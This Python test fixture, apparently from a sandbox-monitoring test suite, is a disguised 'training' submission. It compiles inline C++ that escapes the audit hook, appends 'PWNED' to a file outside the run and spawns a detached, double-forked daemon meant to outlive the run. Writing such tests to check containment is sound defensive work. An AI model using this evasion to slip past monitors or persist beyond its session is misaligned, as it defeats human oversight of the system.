"""EXPLOIT: C++ built with torch.utils.cpp_extension (the compilers started by the library,
as an honest solution's would be) that, from native code the audit hook never sees, writes
a file outside the run and leaves a daemon behind: forked twice, in a session of its own,
its environment cleared. The targets are in `targets.txt` beside this file (the test writes
it): a path to append to, and a marker for the daemon's command line.
Caught by: the kernel alone (the scan and the hook allow the build): the file is outside
every writable directory of the run, and the daemon dies with the run at `done` (its PID
namespace, or the run's reaper)."""

from torch.utils.cpp_extension import load_inline

from baseline.train import train as reference_train

SOURCE = r"""
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string>
#include <sys/wait.h>
#include <unistd.h>
#include <errno.h>

std::string write_outside(std::string path) {
  int fd = open(path.c_str(), O_WRONLY | O_APPEND);
  if (fd < 0) return "open errno " + std::to_string(errno);
  return write(fd, "PWNED", 5) == 5 ? "written" : "write errno " + std::to_string(errno);
}

std::string spawn_daemon(std::string marker) {
  int ends[2];  // close-on-exec: EOF once the daemon has exec'd its loop
  if (pipe2(ends, O_CLOEXEC) != 0) return "pipe errno " + std::to_string(errno);
  pid_t first = fork();
  if (first < 0) return "fork errno " + std::to_string(errno);
  if (first == 0) {
    setsid();
    clearenv();
    if (fork() == 0) {
      dprintf(1, "DAEMON %d\n", getpid());
      execl("/bin/sh", "sh", "-c", "while :; do sleep 1; done", marker.c_str(), (char *)0);
    }
    _exit(0);
  }
  close(ends[1]);
  waitpid(first, nullptr, 0);
  char byte;
  read(ends[0], &byte, 1);
  return "started";
}
"""


def train(cfg, init, tokens, batches):
    native = load_inline("speedup_test_escape", cpp_sources=SOURCE,
                         functions=["write_outside", "spawn_daemon"])
    victim, marker = open(__file__.rsplit("/", 1)[0] + "/targets.txt").read().split()
    print(f"NATIVE write {native.write_outside(victim)}", flush=True)
    print(f"NATIVE daemon {native.spawn_daemon(marker)}", flush=True)
    return reference_train(cfg, init, tokens, batches)
